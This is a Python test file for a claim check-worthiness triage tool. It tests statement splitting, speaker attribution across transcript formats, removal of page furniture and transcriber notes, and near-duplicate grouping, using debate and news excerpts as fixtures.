"""Check-worthiness triage of transcripts, articles and statement lists, on real sentences."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from rich.console import Console

from veracity.claims.abbreviations import expand_abbreviations
from veracity.claims.model import checkworthiness_threshold
from veracity.claims.render import print_triage_table, triage_csv
from veracity.claims.triage import (
    FactCheckRef,
    Triage,
    TriageRow,
    group_near_duplicates,
    split_statements,
    triage_text,
)
from veracity.errors import InputError
from veracity.settings import get_settings

# From the first 2016 US presidential debate (Hofstra, 26 September 2016).
DEBATE = """\
HOLT: Good evening from Hofstra University in Hempstead, New York.
CLINTON: Well, thank you, Lester, and thanks to Hofstra for hosting us.
The central question in this election is really what kind of country we want to be.
TRUMP: Our jobs are fleeing the country. They're going to Mexico.
Ford is leaving. Thousands of jobs leaving Michigan, leaving Ohio.
CLINTON: Donald thinks that climate change is a hoax perpetrated by the Chinese.
TRUMP: I did not. I did not. I do not say that.
CLINTON: Donald thinks climate change is a hoax perpetrated by the Chinese, I think.
"""


def test_transcript_keeps_speakers_and_continuation_lines():
    statements = split_statements(DEBATE)
    by_text = {s.text: s for s in statements}
    assert by_text["Ford is leaving."].speaker == "TRUMP"
    assert by_text["Ford is leaving."].line == 5
    assert by_text["They're going to Mexico."].speaker == "TRUMP"
    central = "The central question in this election is really what kind of country we want to be."
    assert by_text[central].speaker == "CLINTON"
    assert by_text[central].line == 3
    assert not any(s.text.startswith(("HOLT:", "TRUMP:", "CLINTON:")) for s in statements)


def test_article_prose_has_no_speakers_and_colons_stay_in_the_text():
    text = (
        "The reason is simple: wages rose 4.5% in 2023.\n"
        "Unemployment fell to 3.7 percent in November, the Labor Department said."
    )
    statements = split_statements(text)
    assert [s.speaker for s in statements] == [None, None]
    assert statements[0].text == "The reason is simple: wages rose 4.5% in 2023."


# An article's labels are written like speakers ("NOW WATCH:", "UPDATE:"); before, two of them
# made the article a transcript and every later sentence was credited to "NOW WATCH".
ARTICLE_WITH_LABELS = """\
UPDATE: Police said on Tuesday that the suspect had been released without charge.
Ivana Trump wrote in her new book that the family was punctual to an extreme.
"If you weren't on the inside, the meeting or the flight would start without you," she wrote.
The book, "Raising Trump", was published on Tuesday by Gallery Books.
NOW WATCH: Roger Stone explains what Trump has in common with Richard Nixon
SEE ALSO: McConnell gives strongest hint yet that GOP should gut the filibuster
"""

# Part of the 'Face the Nation' interview of 8 October 2017, quoted inside an article.
ARTICLE_WITH_INTERVIEW = """\
The former defence secretary spoke to CBS on Sunday about North Korea.
The interview came as tensions over the country's missile tests rose again.
Analysts said his remarks were unusually blunt for a former official.
BRENNAN: How close are we to war with North Korea?
PANETTA: We are closer than we have been since the Korean War.
BRENNAN: Is the president making it worse?
PANETTA: The rhetoric is dangerous, and it raises the risk of a miscalculation.
He added that diplomacy was still the only way out.
The White House did not respond to a request for comment.
"""


def test_an_articles_labels_are_no_speakers_nor_part_of_its_claims():
    statements = split_statements(ARTICLE_WITH_LABELS)
    assert [s.speaker for s in statements] == [None] * len(statements)
    texts = [s.text for s in statements]
    # a rubric label is no part of the sentence's claim, as a dateline is not (probe s46)
    assert "Police said on Tuesday that the suspect had been released without charge." in texts
    # the links to other stories are no sentences of the article (ingest.links)
    assert not any(text.startswith(("SEE ALSO", "NOW WATCH")) for text in texts)


def test_an_interview_quoted_in_an_article_keeps_its_speakers():
    by_text = {s.text: s.speaker for s in split_statements(ARTICLE_WITH_INTERVIEW)}
    assert by_text["We are closer than we have been since the Korean War."] == "PANETTA"
    assert by_text["How close are we to war with North Korea?"] == "BRENNAN"
    assert by_text["He added that diplomacy was still the only way out."] == "PANETTA"
    assert by_text["The former defence secretary spoke to CBS on Sunday about North Korea."] is None


# A saved page: the article, then its share bar and the site's related headlines, which
# `veracity analyze` leaves out; before, `veracity claims` ranked them as the article's claims.
ARTICLE_WITH_FURNITURE = """\
Brad Pitt and Angelina Jolie reach temporary custody agreement

A Los Angeles judge ordered Angelina Jolie to give Brad Pitt more time with their six children.

Under the agreement, Pitt will have the children for four hours a day on weekdays, court filings show.

Share this:
Click to share on Facebook (Opens in new window)

Related Stories:
Kylie Jenner Sent Kim Kardashian the Sweetest Gift Following Arrival of Baby No. 3
Kanye West Says He Was Diagnosed With a 'Mental Condition' at Age 39
"""


def test_an_articles_site_furniture_is_left_out_with_a_note():
    statements = split_statements(ARTICLE_WITH_FURNITURE)
    texts = [s.text for s in statements]
    assert not any("Kylie Jenner" in t or "Kanye" in t or "Facebook" in t for t in texts)
    hours = "Under the agreement, Pitt will have the children for four hours a day on weekdays"
    assert [s.line for s in statements if s.text.startswith(hours)] == [5]
    triage = triage_text(ARTICLE_WITH_FURNITURE)
    assert len(triage.rows) == 3
    assert any(note.startswith("5 line(s) of site furniture left out") for note in triage.notes)
    # a list of statements is read line by line: nothing in it is furniture
    by_line = triage_text(ARTICLE_WITH_FURNITURE, by_line=True)
    assert len(by_line.rows) == len(ARTICLE_WITH_FURNITURE.splitlines())
    assert not any("furniture" in note for note in by_line.notes)
    assert by_line.notes == [
        "Not scored (score null): line(s) 2, 4, 6, 9 blank, kept so that rows and input lines "
        "stay aligned."
    ]


def test_an_ad_slot_marker_between_an_articles_sentences_is_no_part_of_either():
    text = (
        "The council voted to approve the plan. Story Continued Below Two council members voted "
        "against it.\n\nScroll down for video\n\nThe mayor said work starts in June."
    )
    statements = split_statements(text)
    assert [(s.line, s.text) for s in statements] == [
        (1, "The council voted to approve the plan."),
        (1, "Two council members voted against it."),
        (5, "The mayor said work starts in June."),
    ]


def test_a_pictures_credit_is_no_part_of_a_claim():
    """A caption's trailing credit was read into its sentence, and a credit or a date stamp
    alone on its line was a statement of its own (analyze leaves them out)."""
    text = (
        "Jennifer was never happy in the city Credit: Rex Features\n\nKevin Mazur/WireImage\n\n"
        "Updated at 9:20 p.m. ET\n\nThe mayor said work starts in June. (Photo: AP)"
    )
    statements = split_statements(text)
    assert [(s.line, s.text) for s in statements] == [
        (1, "Jennifer was never happy in the city"),
        (7, "The mayor said work starts in June."),
    ]


# Two transcript layouts: clock times before the label (YouTube, Otter exports) and Rev's
# label line with the time, the words on the next line. Before, the times and labels stayed in
# the text (123 of 319 CheckThat! dev-test sentences flipped to check-worthy with a time
# before them) and Rev's "Speaker 1: (00:15)" lines were scored as claims.
TIMESTAMPED = """\
[00:00:12] MODERATOR: Welcome to the debate.
[00:00:20] SMITH: Unemployment has fallen to 3.5 percent, the lowest in fifty years.
[00:00:35] JONES: That's false. Unemployment rose to 6 percent last month.
"""
REV = """\
Speaker 1: (00:01)
Good evening. Unemployment has fallen to 3.5 percent, the lowest in fifty years.
Speaker 2: (00:15)
That's false. Unemployment rose to 6 percent last month.
Speaker 1: (00:30)
We created 2 million jobs last year alone.
Speaker 2: (00:41)
Crime has doubled in our cities since 2019.
"""


def test_transcript_clock_times_are_neither_text_nor_claims():
    stamped = {s.text: s.speaker for s in split_statements(TIMESTAMPED)}
    assert stamped == {
        "Welcome to the debate.": "MODERATOR",
        "Unemployment has fallen to 3.5 percent, the lowest in fifty years.": "SMITH",
        "That's false.": "JONES",
        "Unemployment rose to 6 percent last month.": "JONES",
    }
    rev = split_statements(REV)
    assert [s.text for s in rev][:2] == [
        "Good evening.",
        "Unemployment has fallen to 3.5 percent, the lowest in fifty years.",
    ]
    assert [s.speaker for s in rev] == ["Speaker 1"] * 2 + ["Speaker 2"] * 2 + [
        "Speaker 1",
        "Speaker 2",
    ]
    assert [s.line for s in rev][-1] == 8
    by_line = split_statements(REV, by_line=True)
    assert (by_line[0].speaker, by_line[0].text) == ("Speaker 1", "")


# Rev's document export: the clock time in brackets before the colon, alone on the label's line
# or before the turn's words. Before, "Donald Trump (00:15):" was scored as a sentence
# ("Donald Trump:") and nobody had a turn, or each turn's speaker was "Donald Trump (00:15)"
# with its own time, so one speaker was as many speakers as turns (probe5).
REV_EXPORT = """\
Speaker 1 (00:00:01):
Thank you all for coming tonight. [applause]

Donald Trump (00:00:15):
Crime is up 40% in our cities.

MODERATOR (Lester Holt) (00:01:02):
Let's move on.

Donald Trump (00:01:30):
Unemployment rose to 6 percent last month.
"""


def test_a_clock_time_before_the_labels_colon_is_the_turns_not_the_speakers():
    said = [(s.line, s.speaker, s.text) for s in split_statements(REV_EXPORT)]
    assert said == [
        (2, "Speaker 1", "Thank you all for coming tonight."),
        (5, "Donald Trump", "Crime is up 40% in our cities."),
        (8, "MODERATOR (Lester Holt)", "Let's move on."),
        (11, "Donald Trump", "Unemployment rose to 6 percent last month."),
    ]
    joined = REV_EXPORT.replace("):\n", "): ").replace("\n\n", "\n")
    assert [s.speaker for s in split_statements(joined)] == [
        "Speaker 1",
        "Donald Trump",
        "MODERATOR (Lester Holt)",
        "Donald Trump",
    ]
    # a bare label alone on its line is no turn's: an article's "UPDATE:" stays a line of text
    assert split_statements("UPDATE:\nThe mayor resigned on Monday.")[0].speaker is None


# Otter.ai's layout: the label and the clock time on a line of their own, no colon, the turn's
# words on the next line(s), a blank line between turns. Before, the "Jane Smith 0:15" lines
# were scored as sentences and no line had a speaker.
OTTER = """\
Jane Smith  0:15
Thank you for having me. Unemployment has fallen to 3.5 percent,
the lowest in fifty years.

Speaker 1  1:02
That's false. Unemployment rose to 6 percent last month.

Jane Smith  1:02:03
We created 2 million jobs last year alone.
"""
# The same turns as "SPEAKER: text" lines, what the Otter layout should read as.
PLAIN = """\
Jane Smith: Thank you for having me. Unemployment has fallen to 3.5 percent,
the lowest in fifty years.
Speaker 1: That's false. Unemployment rose to 6 percent last month.
Jane Smith: We created 2 million jobs last year alone.
"""


def test_otter_transcripts_read_as_the_plain_transcript():
    def read(text):
        return [(s.text, s.speaker) for s in split_statements(text)]

    assert read(OTTER) == read(PLAIN)
    assert read(OTTER)[-1] == ("We created 2 million jobs last year alone.", "Jane Smith")
    # The export's footer, a paragraph under no label, is nobody's words (before, Jane Smith's).
    footer = read(OTTER + "\nTranscribed by https://otter.ai\n")
    assert footer[:-1] == read(PLAIN) and footer[-1][1] is None
    otter, plain = triage_text(OTTER), triage_text(PLAIN)
    fields = ("rank", "text", "score", "check_worthy", "speaker", "group")
    assert [r.model_dump(include=set(fields)) for r in otter.rows] == [
        r.model_dump(include=set(fields)) for r in plain.rows
    ]
    # Verse references and a video player's clock are no Otter turns: their times do not run
    # forward (before the rule, a satire article's sentences were credited to "Luke", "Proverbs").
    for verses in (
        "Luke 18:25\nIt is easier for a camel.\nProverbs 3:15\nShe is more precious.\n",
        "Mark 10:25\nIt is easier for a camel.\nLuke 18:25\nIt is easier for a camel.\n",
    ):
        assert [s.speaker for s in split_statements(verses)] == [None] * 4
    # In a list of statements such a line is a statement, kept as written.
    by_line = split_statements("Kickoff 7:30\nThe stadium holds 60,000 people.", by_line=True)
    assert (by_line[0].speaker, by_line[0].text) == (None, "Kickoff 7:30")


# A transcript's furniture between the turns: stage directions and headings in capitals. Before,
# each was a sentence of the last speaker ('[APPLAUSE]' said by SMITH, 'HEALTH CARE' by a
# speaker 'SEGMENT TWO', 'END' by JONES), ranked among the claims.
FURNISHED = """\
MODERATOR: Good evening and welcome to the second debate.
SMITH: Unemployment has fallen to 3.5 percent, the lowest in fifty years. [APPLAUSE]
[APPLAUSE]
JONES: That's false. Unemployment rose to 6 percent last month.
(CROSSTALK)
MODERATOR: Please, let him finish.
SEGMENT TWO: HEALTH CARE
Health care is the next subject tonight.
SMITH: We expanded Medicaid to 400,000 people.
[LAUGHTER]
END
"""
UNFURNISHED = """\
MODERATOR: Good evening and welcome to the second debate.
SMITH: Unemployment has fallen to 3.5 percent, the lowest in fifty years.
JONES: That's false. Unemployment rose to 6 percent last month.
MODERATOR: Please, let him finish.
Health care is the next subject tonight.
SMITH: We expanded Medicaid to 400,000 people.
"""


def test_a_transcripts_stage_directions_and_headings_are_nobodys_and_left_out_with_a_note():
    furnished = [(s.text, s.speaker) for s in split_statements(FURNISHED)]
    plain = [(s.text, s.speaker) for s in split_statements(UNFURNISHED)]
    # a heading ends the turn before it: the line after it is nobody's known words
    assert furnished == [(t, None if t.startswith("Health care") else sp) for t, sp in plain]
    triage = triage_text(FURNISHED)
    assert not any("APPLAUSE" in r.text or r.text in ("END", "HEALTH CARE") for r in triage.rows)
    assert any(note.startswith("6 stage direction(s) and heading(s)") for note in triage.notes)
    # an aside in brackets is someone's words
    aside = split_statements(FURNISHED + "JONES: (Imagine that on 9/12!)\n")[-1]
    assert (aside.text, aside.speaker) == ("(Imagine that on 9/12!)", "JONES")
    # with --lines every line is a statement, furniture too
    assert len(triage_text(FURNISHED, by_line=True).rows) == len(FURNISHED.splitlines())
    # closed captions, all in capitals: a line in capitals is a turn's words, no heading
    captions = split_statements("SMITH: WE CUT TAXES\nFOR EVERY FAMILY\nJONES: NO YOU DID NOT\n")
    assert [(s.text, s.speaker) for s in captions] == [
        ("WE CUT TAXES", "SMITH"),
        ("FOR EVERY FAMILY", "SMITH"),
        ("NO YOU DID NOT", "JONES"),
    ]


# A saved transcript page keeps the page's ad slots between a turn's paragraphs, as the
# Washington Post's annotated debate transcripts have them (FakeNewsNet politifact12052). Before,
# "AD" read as a heading and ended the turn (the moderator's question after it had no speaker)
# and "Advertisement" and "Story continues below advertisement" were rows of the last speaker.
AD_SLOTS = """\
TAPPER: Thank you. Let's begin with jobs and the economy.

AD

Governor Kasich, critics say these deals have cost the U.S. at least 1 million jobs.

KASICH: Well, we have created 400,000 jobs in Ohio since 2011.

Advertisement

And our unemployment rate fell to 4.5 percent last year.

Story continues below advertisement

We balanced the budget with a surplus of $2 billion.

TAPPER: Senator Rubio?

RUBIO: I support free trade deals that are good for America.

KASICH: Ohio exports rose 20 percent.
"""


def test_a_transcripts_ad_slots_are_left_out_and_the_turn_goes_on_past_them():
    rows = [(s.line, s.text, s.speaker) for s in split_statements(AD_SLOTS)]
    slots = ("AD", "Advertisement", "Story continues below advertisement")
    plain = "\n".join("" if line in slots else line for line in AD_SLOTS.split("\n"))
    assert rows == [(s.line, s.text, s.speaker) for s in split_statements(plain)]
    by_text = {text: speaker for _, text, speaker in rows}
    critics = "Governor Kasich, critics say these deals have cost the U.S. at least 1 million jobs."
    assert by_text[critics] == "TAPPER"
    assert by_text["We balanced the budget with a surplus of $2 billion."] == "KASICH"
    assert not any("dvertisement" in text or text == "AD" for _, text, _ in rows)
    notes = triage_text(AD_SLOTS).notes
    assert any(note.startswith("3 line(s) of site furniture left out") for note in notes)
    # a spoken "OK." on a line of its own is a turn's words, not a cookie banner's button
    kept = split_statements(AD_SLOTS.replace("Advertisement\n", "OK.\n"))
    assert ("OK.", "KASICH") in [(s.text, s.speaker) for s in kept]


# Notes a transcriber writes inside a sentence, as the CheckThat! 2024 debate transcripts have
# them ("(Laughter, applause) Isn't that the point?", "Well, Alan (ph), thank you", "under that
# plan [crosstalk], they"). Before, they stayed in the sentence that was scored and shown.
NOTED = """\
SMITH: [APPLAUSE] And we will win this election.
JONES: We will (LAUGHTER) cut taxes for every family.
SMITH: "(Laughter, applause) Isn't that the point?"
JONES: Well, Alan (ph), thank you. Under that plan [crosstalk], they tax you [inaudible 00:12:31] twice.
SMITH: [00:12:31] We closed 14 hospitals (SOUNDBITE OF ARCHIVED RECORDING) in Ohio.
JONES: (Applause.)
SMITH: The North Atlantic Treaty Organization (NATO) was formed in 1949 (not 1950) [sic].
"""


def test_transcribers_notes_inside_a_sentence_are_left_out_of_its_text():
    statements = split_statements(NOTED)
    assert [(s.line, s.text, s.speaker) for s in statements] == [
        (1, "And we will win this election.", "SMITH"),
        (2, "We will cut taxes for every family.", "JONES"),
        (3, '"Isn\'t that the point?"', "SMITH"),
        (4, "Well, Alan, thank you.", "JONES"),
        (4, "Under that plan, they tax you twice.", "JONES"),
        (5, "We closed 14 hospitals in Ohio.", "SMITH"),
        # an acronym, a figure and an aside in brackets are words, not notes
        (
            7,
            "The North Atlantic Treaty Organization (NATO) was formed in 1949 (not 1950).",
            "SMITH",
        ),
    ]
    # a sentence that is only a note is furniture, left out with the others and said so
    triage = triage_text(NOTED)
    assert {row.text for row in triage.rows} == {s.text for s in statements}
    assert any(note.startswith("1 stage direction(s)") for note in triage.notes)
    assert any(note.startswith("7 sentence(s) had a transcriber's note") for note in triage.notes)
    # with --lines a line keeps its row; its notes go, a line that is only a note stays whole
    by_line = split_statements(NOTED, by_line=True)
    assert [s.text for s in by_line] == [
        "And we will win this election.",
        "We will cut taxes for every family.",
        '"Isn\'t that the point?"',
        "Well, Alan, thank you. Under that plan, they tax you twice.",
        "We closed 14 hospitals in Ohio.",
        "(Applause.)",
        "The North Atlantic Treaty Organization (NATO) was formed in 1949 (not 1950).",
    ]
    # closed captions, all in capitals: words in capitals are nobody's note
    captions = split_statements(
        "SMITH: WE CUT TAXES (FOR EVERY FAMILY) IN OHIO (APPLAUSE)\nJONES: NO (LAUGHTER) YOU DID NOT\n"
    )
    assert [s.text for s in captions] == [
        "WE CUT TAXES (FOR EVERY FAMILY) IN OHIO",
        "NO YOU DID NOT",
    ]


# NPR's layout (Morning Edition, 22 January 2020): a label with its role, the words inline or
# on the next line. Before, "DAVID GREENE, HOST:" was no label, so the host's words had no
# speaker and "EMILY FENG, BYLINE: Hi, David." was a sentence of the host's.
NPR = """\
DAVID GREENE, HOST:

China is scrambling to contain a never before seen strain of coronavirus. Hi, Emily.

EMILY FENG, BYLINE: Hi, David.

GREENE: So how worried is the Chinese government about this right now?

FENG: They're pretty worried, but they're also being really careful.
"""


def test_npr_labels_with_a_role_name_the_speaker():
    assert [(s.text, s.speaker) for s in split_statements(NPR)] == [
        (
            "China is scrambling to contain a never before seen strain of coronavirus.",
            "DAVID GREENE",
        ),
        ("Hi, Emily.", "DAVID GREENE"),
        ("Hi, David.", "EMILY FENG"),
        ("So how worried is the Chinese government about this right now?", "GREENE"),
        ("They're pretty worried, but they're also being really careful.", "FENG"),
    ]


def test_lines_give_one_statement_per_input_line_in_order():
    text = (
        "We spent $6 trillion in the Middle East.\n\nThank you.\nTRUMP: I will bring back jobs.\n"
    )
    statements = split_statements(text, by_line=True)
    assert [s.line for s in statements] == [1, 2, 3, 4]
    assert [s.text for s in statements] == [
        "We spent $6 trillion in the Middle East.",
        "",
        "Thank you.",
        "I will bring back jobs.",
    ]
    assert statements[3].speaker == "TRUMP"


def test_near_duplicates_share_a_group_and_others_do_not():
    groups = group_near_duplicates(
        [
            "Donald thinks that climate change is a hoax perpetrated by the Chinese.",
            "Ford is leaving.",
            "Donald thinks climate change is a hoax perpetrated by the Chinese, I think.",
            "Thousands of jobs leaving Michigan, leaving Ohio.",
        ]
    )
    assert groups[0] == groups[2]
    assert len({groups[0], groups[1], groups[3]}) == 3
    assert groups[:2] == [1, 2]  # numbered in order of first appearance


def test_similar_sentences_that_say_otherwise_are_different_claims():
    """Audit: 'rose' and 'fell', 14 and 41 hospitals, 2019 and 2015, Virginia and California
    were one group."""
    pairs = [
        (
            "Unemployment rose to 10 percent in the rural counties over the last four years.",
            "Unemployment fell to 10 percent in the rural counties over the last four years.",
        ),
        (
            "The governor closed 14 hospitals in the state over the last four years.",
            "The governor closed 41 hospitals in the state over the last four years.",
        ),
        (
            "Crime has doubled in our cities since 2019, according to the FBI.",
            "Crime has doubled in our cities since 2015, according to the FBI.",
        ),
    ]
    # LIAR statements and CheckThat! debate sentences that name someone or somewhere else
    pairs += [
        (
            "There was serious voter fraud in Virginia.",
            "There was serious voter fraud in California.",
        ),
        (
            "Congresswoman Ros-Lehtinen has long record of voting against VA backlog fixes.",
            "Congressman Duffy has long record of voting against VA backlog fixes.",
        ),
        (
            "We've got to show moral support for Georgia.",
            "We've got to show moral support for Ukraine.",
        ),
    ]
    for first, second in pairs:
        assert group_near_duplicates([first, second]) == [1, 2]
    same = [
        (
            "We created 2 million jobs in the last four years, more than any administration.",
            "We created two million jobs in the last four years, more than any administration ever.",
        ),
        ("Says Romney flip-flopped on abortion.", "Says Mitt Romney flip-flopped on abortion."),
    ]
    for first, second in same:
        assert group_near_duplicates([first, second]) == [1, 1]
    # nor does a sentence that states neither outcome join them through itself
    rose = "Under this governor unemployment rose to 10 percent in the rural counties over the "
    neither = "Under this governor unemployment in the rural counties over the last four years "
    fell = "Under this governor unemployment fell to 10 percent in the rural counties over the "
    end = "last four years, and families are paying for it."
    groups = group_near_duplicates(
        [rose + end, neither + "has hurt, and families are paying for it.", fell + end]
    )
    assert groups[0] == groups[1] != groups[2]


def test_a_sentence_and_its_negation_are_different_claims():
    """Audit: "has raised taxes" and "has never raised taxes" were one group (LIAR statements
    beside a twin negated after their first auxiliary: 1,682 of 2,000 grouped)."""
    opposite = [
        (
            "The governor has raised taxes on working families in every budget he has signed.",
            "The governor has never raised taxes on working families in any budget he has signed.",
        ),
        (
            "The new law lowered health care costs for millions of families in Texas, he said.",
            "The new law did not lower health care costs for millions of families in Texas, he said.",
        ),
        # contracted, with a typographic apostrophe
        (
            "Our plan created more than two million jobs in the manufacturing sector last year.",
            "Our plan didn’t create more than two million jobs in the manufacturing sector last year.",
        ),
        # "failed to" is not doing ("The bill failed in the Senate" is a vote, read as an outcome)
        (
            "The new law lowered health care costs for millions of families in Texas, he said.",
            "The new law failed to lower health care costs for millions of families in Texas, he said.",
        ),
        # CheckThat! debate sentences
        (
            "This is the way we're going to create jobs in this country.",
            "That's not the way we're going to create jobs here.",
        ),
    ]
    for first, second in opposite:
        assert group_near_duplicates([first, second]) == [1, 2], second
    # a negation of a phrase the other sentence lacks says nothing otherwise
    same = [
        ("I spent my life in the private sector.", "I spent my life in the private sector, not in government."),
        (
            "We are the only major country on Earth that doesnt guarantee health care to all people "
            "as a right.",
            "We are the only major country on Earth that doesnt guarantee health care to all people "
            "as a right, not a privilege.",
        ),
    ]  # fmt: skip
    for first, second in same:
        assert group_near_duplicates([first, second]) == [1, 1], second


def test_abbreviated_names_are_the_names_they_stand_for():
    """Audit: the names check split LIAR's 'Phoenix, Ariz.' from 'Phoenix, Arizona' ('ariz' is
    no 'arizo'), and so 'Sen.' from 'Senator' and 'U.S.' from 'United States'."""
    same = [
        (
            "Phoenix, Ariz., is the No. 2 kidnapping capital of the world.",
            "Phoenix, Arizona, is the No. 2 kidnapping capital of the world.",
        ),
        (
            "Voters in Fresno, Calif., were turned away from the polls last year.",
            "Voters in Fresno, California, were turned away from the polls last year.",
        ),
        (
            "The bill written by Sen. Warren would raise taxes on every family.",
            "The bill written by Senator Warren would raise taxes on every family.",
        ),
        (
            "Under this plan the U.S. has the highest corporate tax rate in the world.",
            "Under this plan the US has the highest corporate tax rate in the world.",
        ),
        (
            "Under this plan the US has the highest corporate tax rate in the world.",
            "Under this plan the United States has the highest corporate tax rate in the world.",
        ),
        (
            "As we all know, Rep. Ron Kind, D-Wis., voted to raise the debt ceiling four times "
            "in the last two years.",
            "As we all know, Rep. Ron Kind, D-WI, voted to raise the debt ceiling four times "
            "in the last two years.",
        ),
    ]
    # a hyphenated name is the same name in both ("ros-l" was no word of either)
    same.append(
        (
            "Congresswoman Ros-Lehtinen has a long record of voting against VA backlog fixes.",
            "Congresswoman Ros-Lehtinen has long record of voting against VA backlog fixes.",
        )
    )
    for first, second in same:
        assert group_near_duplicates([first, second]) == [1, 1], (first, second)
    # written out, other states and other people are still other names
    other = [
        (
            "Voters in Fresno, Calif., were turned away from the polls last year.",
            "Voters in Tucson, Ariz., were turned away from the polls last year.",
        ),
        (
            "The bill written by Sen. Warren would raise taxes on every family.",
            "The bill written by Senator Cruz would raise taxes on every family.",
        ),
    ]
    for first, second in other:
        assert group_near_duplicates([first, second]) == [1, 2], (first, second)


def test_a_short_sentence_and_its_abbreviated_twin_are_one_group():
    """Audit: the names check read "Ariz." as "Arizona", but the word 3-grams that find the
    pair did not, so a short sentence lost too many of them to its abbreviations to be
    compared at all (LIAR and CheckThat! statements beside their written-out twin: 1,372 of
    1,584 grouped)."""
    same = [
        (
            "Crime went up 20 percent in Phoenix, Ariz. last year.",
            "Crime went up 20 percent in Phoenix, Arizona, last year.",
        ),
        (
            "We cut taxes for 40 million families in Ariz. and across the U.S.",
            "We cut taxes for 40 million families in Arizona and across the United States.",
        ),
        # LIAR statements
        (
            "Nearly half of all pregnancies in the U.S. are unintended.",
            "Nearly half of all pregnancies in the United States are unintended.",
        ),
        (
            "Says U.S. Rep. Steve Southerland voted to keep the shutdown going.",
            "Says United States Representative Steve Southerland voted to keep the shutdown going.",
        ),
    ]
    for first, second in same:
        assert group_near_duplicates([first, second]) == [1, 1], (first, second)
    # written out, another state or another figure is still another claim
    assert group_near_duplicates(
        [
            "Crime went up 20 percent in Phoenix, Ariz. last year.",
            "Crime went up 20 percent in Phoenix, Arizona, this year and in Tucson, Arizona.",
            "Crime went up 30 percent in Phoenix, Arizona, last year.",
        ]
    ) == [1, 2, 3]


def test_expanding_abbreviations_leaves_words_that_are_no_abbreviation():
    assert (
        expand_abbreviations("Mr. Trump met Lt. Gov. Patrick in Austin, Tex., and W.Va.")
        == "Trump met Lieutenant Governor Patrick in Austin, Texas, and West Virginia"
    )
    # two capitals are a name only where the text is not in capitals: "US" may be "us"
    assert expand_abbreviations("LET US GO, OR NOT") == "LET US GO, OR NOT"
    assert (
        expand_abbreviations("Tell us what Maine or Ohio did") == "Tell us what Maine or Ohio did"
    )
    assert (
        expand_abbreviations("Homes in Dallas, TX, or in LA") == "Homes in Dallas, Texas, or in LA"
    )


def test_a_percentage_with_the_sign_and_with_the_word_is_one_group():
    """probe5: a Rev transcript's "Crime is up 40 percent" and a later "Crime is up 40%" were
    two groups: the sign is no word of a 3-gram. LIAR statements beside their twin with the
    other form: 1,102 of 1,236 grouped before, 1,236 after; LIAR's own 12,836 statements group
    exactly as before (12,778 groups)."""
    same = [
        "Crime is up 40 percent in Democrat-run cities.",
        "Crime is up 40% in Democrat-run cities.",
        "Crime is up 40 per cent in Democrat-run cities.",
        "Crime is up 14% in Democrat-run cities.",  # another figure: its own group
    ]
    assert group_near_duplicates(same) == [1, 1, 1, 2]
    # LIAR (train) statements: in a short one the figure's 3-grams are most of them
    for liar in (
        "Small businesses create 70 percent of the jobs in America.",
        "Were now spending 42 percent of our economy on government.",
    ):
        assert group_near_duplicates([liar, liar.replace(" percent", "%")]) == [1, 1], liar


def test_repeated_lines_are_grouped_without_comparing_every_pair(monkeypatch):
    """Audit: 2,000 repeats of "Thank you." cost 2 million MinHash comparisons (n²/2): a
    repeat now joins its first copy's group, and a candidate already in a text's group is not
    compared again, so near-duplicate variants cost about one comparison each."""
    from datasketch import MinHash

    calls = []
    jaccard = MinHash.jaccard
    monkeypatch.setattr(
        MinHash, "jaccard", lambda self, other: calls.append(1) or jaccard(self, other)
    )
    variants = [
        f"Thank you, Lester, and thanks to Hofstra for hosting us in {n}." for n in range(200)
    ]
    texts = ["Thank you."] * 300 + variants + ["Ford is leaving."] + ["Thank you."] * 300
    groups = group_near_duplicates(texts)
    assert set(groups[:300]) == set(groups[-300:]) == {1}
    assert set(groups[300:500]) == {2}
    assert groups[500] == 3
    assert len(calls) <= len(variants)  # was 199,594 comparisons


def test_lines_alike_but_for_a_figure_are_checked_against_a_bounded_number_of_others(
    monkeypatch,
):
    """Round 7: lines alike but for a figure ("The unemployment rate fell to 1 percent ...",
    "... 2 percent ...") are each other's LSH candidates and never join (other figures), so
    each was checked against every earlier one: 400 lines took 3.6 s of CPU, the 2,900 of the
    200,000 characters POST /v1/claims:triage takes minutes (past its timeout, the abandoned
    work holding its slot). A line is checked against its 32 nearest candidates, and a true
    near-duplicate among many candidates still joins."""
    import veracity.claims.triage as triage_module

    calls = []
    say_otherwise = triage_module._say_otherwise
    monkeypatch.setattr(
        triage_module,
        "_say_otherwise",
        lambda first, second: calls.append(1) or say_otherwise(first, second),
    )
    texts = [
        f"The unemployment rate fell to {n} percent in March, officials said." for n in range(300)
    ]
    texts.append("The unemployment rate fell to 7 percent in March, officials said on Monday.")
    groups = group_near_duplicates(texts)
    assert len(set(groups[:300])) == 300  # other figures: other claims
    assert groups[300] == groups[7]  # the same claim, said on Monday
    assert len(calls) <= 32 * len(texts)  # was 23,658 checks


def test_each_line_is_read_once_however_many_lines_it_is_checked_against(monkeypatch):
    """Probe s41: `veracity claims` on 500 / 1,000 / 2,000 near-identical lines took 3.3 / 6.9
    / 22.8 CPU-s, 68% of it in _say_otherwise reading both texts of each pair again (tokens,
    outcomes, clauses, figures, names) for each of a line's 32 candidates: 64 tokenizations a
    line. Each text is read once and its reading kept while it is compared."""
    import veracity.verify.cues as cues

    calls = []
    tokenize = cues.tokenize
    monkeypatch.setattr(cues, "tokenize", lambda text: calls.append(1) or tokenize(text))
    texts = [
        f"The city council voted to raise the parking fee to {n} dollars in Springfield, the "
        "mayor said on Tuesday."
        for n in range(300)
    ] + [
        f"Unemployment in Toledo rose to {n} percent in April, officials said." for n in range(300)
    ]
    groups = group_near_duplicates(texts)
    assert len(set(groups)) == len(texts)  # other figures: other claims
    assert len(calls) <= 8 * len(texts)  # was 64 a line


def test_a_line_among_thousands_alike_reads_a_bounded_number_of_candidates(monkeypatch):
    """Probe s42: `veracity claims --lines` stayed superlinear past ~2,000 near-identical
    lines (2,000 / 4,000 / 8,000: 1.7 / 4.5 / 12.0 CPU-s to group): datasketch's LSH query
    read every entry of every band's bucket in Python, and each line was in every other's
    bucket. A line's candidates come from at most 1,024 bucket entries; its true
    near-duplicate, a line away, still joins it."""
    import veracity.claims.triage as triage_module

    sizes: list[int] = []
    nearest = triage_module._nearest
    monkeypatch.setattr(
        triage_module,
        "_nearest",
        lambda candidates, values, text: (
            sizes.append(len(candidates)) or nearest(candidates, values, text)
        ),
    )
    texts = [
        f"The unemployment rate fell to {n} percent in March, officials said." for n in range(2000)
    ]
    texts.append("The unemployment rate fell to 1999 percent in March, officials said on Monday.")
    groups = group_near_duplicates(texts)
